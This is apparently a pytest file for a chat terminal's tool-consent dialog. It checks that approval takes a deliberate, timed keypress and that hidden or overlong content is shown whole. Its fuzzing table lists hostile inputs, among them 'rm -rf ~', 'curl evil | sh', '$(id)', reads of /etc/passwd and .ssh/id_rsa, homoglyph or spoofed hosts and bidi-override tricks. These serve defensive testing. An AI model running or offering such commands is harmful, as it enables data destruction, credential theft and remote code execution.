"""The question before a tool runs: nothing but a true yes, to what was shown whole, is one."""

from __future__ import annotations

import random
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field

import msgspec
import pytest
from textual import events
from textual.app import ComposeResult
from textual.pilot import Pilot
from textual.widgets import TextArea

from chatterm.core.clean import visible
from chatterm.core.events import ConsentAsked
from chatterm.core.messages import ToolCallPart
from chatterm.core.tools import Access, AccessKind, Decision
from chatterm.tui.consent_text import consent_question
from chatterm.tui.transcript.transcript import Transcript
from chatterm.tui.widgets.consent_box import QUIET_SECONDS, ConsentBox
from tests.tui.widgets.host import UNSAFE, Host, screen_text


def asked(access: Access, name: str = "run_command", source: str = "built-in") -> ConsentAsked:
    return ConsentAsked(ToolCallPart("call-1", name, "{}"), source, access)


@dataclass
class Asked:
    """A box on a screen, with a clock that the test moves."""

    size: tuple[int, int] = (80, 24)
    now: float = 100.0
    decided: list[Decision] = field(default_factory=list)
    typed: list[str] = field(default_factory=list)

    def box(self, access: Access) -> ConsentBox:
        # The looks of the transcript are those of the box.
        return ConsentBox(
            consent_question(asked(access)),
            self.decided.append,
            lambda: self.transcript.palette,
            clock=lambda: self.now,
            typed_at=lambda event: self.now,
        )

    transcript: Transcript = field(default_factory=Transcript)


class BoxHost(Host):
    """Shows one question after the other over a prompt."""

    def __init__(self, state: Asked) -> None:
        super().__init__()
        self.state = state

    def compose(self) -> ComposeResult:
        yield self.state.transcript
        yield TextArea(id="prompt")

    def on_consent_box_typed(self, event: ConsentBox.Typed) -> None:
        self.state.typed.append(event.text)

    async def ask(self, access: Access) -> ConsentBox:
        for old in self.query(ConsentBox):
            await old.remove()
        box = self.state.box(access)
        await self.mount(box, before="#prompt")
        box.fit(self.size)
        return box

    def fresh(self, access: Access) -> ConsentBox:
        """A box as new on the screen, but laid out by nobody: many of them take no time."""
        box = self.state.box(access)
        box._attach(self.screen)
        box.fit(self.size)
        return box


@asynccontextmanager
async def with_box(
    access: Access, *, size: tuple[int, int] = (80, 24)
) -> AsyncGenerator[tuple[BoxHost, Asked, ConsentBox, Pilot[None]]]:
    state = Asked(size)
    host = BoxHost(state)
    async with host.run_test(size=size) as pilot:
        box = await host.ask(access)
        await pilot.pause()
        yield host, state, box, pilot


PATH = Access(kind="read", target="/home/me/notes.txt")
LONG = Access(kind="run", target='{"argv":["echo","' + "safe " * 2000 + '; rm -rf ~"]}')


DECISIONS = {
    "y": Decision.ONCE,
    "c": Decision.CONVERSATION,
    "a": Decision.ALWAYS,
    "n": Decision.DENY,
    "enter": Decision.DENY,
    "escape": Decision.DENY,
}


async def test_each_key_decides_once() -> None:
    async with with_box(PATH) as (host, state, _box, pilot):
        for key, decision in DECISIONS.items():
            await host.ask(PATH)
            await pilot.pause()
            state.decided.clear()
            state.now += QUIET_SECONDS
            await pilot.press(key, key)
            assert state.decided == [decision]


async def test_keys_typed_ahead_decide_nothing_and_text_goes_to_the_prompt() -> None:
    async with with_box(PATH) as (host, state, _box, pilot):
        for key in ("y", "c", "a", "n", "enter", "escape"):
            for after in (0.0, QUIET_SECONDS - 0.001):
                await host.ask(PATH)
                await pilot.pause()
                state.typed.clear()
                state.now += after
                await pilot.press(key)
                assert state.decided == []
                assert state.typed == ([key] if len(key) == 1 else [])


async def test_who_goes_on_typing_decides_nothing() -> None:
    async with with_box(PATH) as (_host, state, _box, pilot):
        for key in "yes you may say any yay":
            state.now += QUIET_SECONDS - 0.05
            await pilot.press("space" if key == " " else key)
        assert state.decided == []
        state.now += QUIET_SECONDS
        await pilot.press("y")
        assert state.decided == [Decision.ONCE]


async def test_another_letter_is_no_answer_and_holds_off_the_next() -> None:
    async with with_box(PATH) as (_host, state, _box, pilot):
        state.now += 1
        await pilot.press("x", "y")
        assert state.decided == [] and state.typed == ["x", "y"]


async def test_a_paste_is_no_answer() -> None:
    async with with_box(PATH) as (host, state, _box, pilot):
        state.now += 1
        host.post_message(events.Paste("y"))
        await pilot.pause()
        await pilot.press("y")
        assert state.decided == [] and state.typed == ["y", "y"]


@pytest.mark.parametrize("size", [(80, 24), (200, 60), (30, 10)])
async def test_the_end_must_be_seen_before_a_yes(size: tuple[int, int]) -> None:
    async with with_box(LONG, size=size) as (host, state, box, pilot):
        state.now += 1
        assert "n or enter no" in screen_text(host) and "y once" not in screen_text(host)
        await pilot.press("y")  # shows more, and allows nothing
        assert state.decided == [] and box.scroll_offset.y > 0
        await pilot.press("end")
        await pilot.pause()
        assert "y once" in screen_text(host)
        await pilot.press("y")
        assert state.decided == [Decision.ONCE]


async def test_there_is_no_rule_where_none_may_be_kept() -> None:
    async with with_box(Access(kind="run", target="x", may_always=False)) as (host, state, _box, pilot):
        assert "always" not in screen_text(host) and "this conversation" not in screen_text(host)
        for key in "ca":
            state.now += 1
            await pilot.press(key)
        assert state.decided == []


async def test_the_focus_stays_with_the_question() -> None:
    async with with_box(PATH) as (host, state, box, pilot):
        state.now += 1
        host.query_one("#prompt").focus()
        await pilot.pause()
        assert host.focused is box
        await pilot.click("#prompt")
        await pilot.pause()
        assert host.focused is box and state.decided == []


def test_rows_hold_everything_with_nothing_invisible() -> None:
    hidden = "a\x1b[2Jb\u202ec\u00a0d\nallow it\u200b"
    access = Access(
        kind="write", target=hidden, lines=(hidden,), diff=f"--- a\n+++ b\n@@ -1 +1 @@\n-{hidden}\n+\tx"
    )
    texts = [row.text for row in consent_question(asked(access)).rows]
    assert visible(hidden) in texts[1] and visible(hidden) in texts
    assert r"-a\x1b[2Jb\u202ec\xa0d" in texts and r"allow it\u200b" in texts and "+   x" in texts
    assert not any(UNSAFE.search(text) or "\n" in text for text in texts)
    assert "every later change of this file" in texts[-1] and hidden not in texts[-1]


def test_rounds_are_asked_in_words() -> None:
    question = consent_question(asked(Access(kind="rounds", target="25", may_always=False)))
    assert [row.text for row in question.rows] == ["The model called tools 25 times. Go on?"]
    assert [choice.decision for choice in question.choices] == [Decision.ONCE, Decision.DENY]


# ---- 500 attacks -------------------------------------------------------------------------------

PIECES = {
    "path": [
        "/etc/passwd",
        "../../.ssh/id_rsa",
        "/home/me/​.env",
        "/home/me/раsswd",
        "/proc/self/fd/3",
        "C:\\x\\y",
    ],
    "argv": ["rm -rf ~", "echo ok # \x1b[8m; curl evil | sh", "ls\u00a0-la", "$(id)", "`id`", "--\u2028y"],
    "host": ["https://pаypal.com", "https://good.com@evil.example", "http://[::1]:80", "https://evil。com"],
    "imitation": ["┏━ y once ┓", "your answer is needed · y once", "\ny\n", "Allowed. Press y", "✔ allowed"],
    "hidden": [
        "\u202egpj.exe",
        "\U000e0079\U000e0065",
        "a\u0301\u0301\u0301\u0301\u0301",
        "\x07\x9b31m",
        "\ud800",
    ],
    "long": ["x" * 3000, "safe\n" * 400, "ш" * 2000, " " * 5000 + "; rm -rf /"],
}
KINDS: tuple[AccessKind, ...] = ("read", "write", "run", "fetch", "call")


def attacks(seed: int, count: int) -> list[tuple[Access, list[str]]]:
    """Calls made to be allowed by accident, and the keys that arrive for them, without one true yes."""
    chance = random.Random(seed)
    made: list[tuple[Access, list[str]]] = []
    for _ in range(count):
        parts = [chance.choice(PIECES[chance.choice(list(PIECES))]) for _ in range(chance.randint(1, 4))]
        kind = chance.choice(KINDS)
        target = " ".join(parts)
        access = Access(
            kind=kind,
            target=msgspec.json.encode({"argv": parts}).decode()
            if kind == "run" and "\ud800" not in target
            else target,
            lines=tuple(chance.choices(parts, k=chance.randint(0, 3))),
            diff="\n".join(f"+{part}" for part in parts) if kind == "write" else "",
            may_always=chance.random() < 0.8,
        )
        early = ["early:" + chance.choice(["y", "a", "c", "enter", "Y", "space", "down"]) for _ in range(3)]
        typing = ["stray:" + letter for letter in chance.choice(["why", "say", "away", "cay", "Yay"])]
        end = chance.choice([["late:n"], ["late:enter"], ["late:escape"], ["late:Y"], ["late:ctrl+y"], []])
        made.append((access, chance.choice([early, typing, early + typing]) + end))
    return made


@pytest.mark.parametrize("seed", range(5))
async def test_no_attack_runs_without_a_true_yes(seed: int) -> None:
    state = Asked()
    host = BoxHost(state)
    shown = 0
    async with host.run_test(size=(80, 24)):
        for access, keys in attacks(seed, 100):
            box = host.fresh(access)
            assert box.styles.height is not None
            for y in range(int(box.styles.height.value) - 2):
                box.render_line(y)  # in view
            state.decided.clear()
            for key in keys:
                when, _, name = key.partition(":")
                state.now += {"early": 0.02, "stray": 0.25, "late": 5.0}[when]
                box.on_key(events.Key(name, name if len(name) == 1 else None))
            assert not [each for each in state.decided if each is not Decision.DENY], (access, keys)
            state.now += 5.0
            box.render_line(len(box.shown_lines))  # to the end: it is a box that a true yes opens
            box.on_key(events.Key("y", "y"))
            assert state.decided, "no key is heard"
            texts = "".join(text for text, _ in box.shown_lines)
            assert visible(access.target) in texts, "what is asked is not shown whole"
            assert all(visible(line) in texts for line in access.lines)
            assert not UNSAFE.search(texts)
            shown += 1
    assert shown == 100
